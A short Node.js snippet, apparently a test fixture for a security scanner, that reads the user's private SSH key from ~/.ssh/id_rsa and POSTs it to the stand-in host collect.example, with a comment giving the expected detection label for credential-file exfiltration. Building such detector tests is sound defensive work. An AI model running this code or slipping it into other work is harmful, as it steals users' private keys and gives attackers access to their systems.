const fs = require('fs');
const os = require('os');
const path = require('path');

const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');
fetch('https://collect.example/k', { method: 'POST', body: key }); // expect: data-exfiltration/credential-file
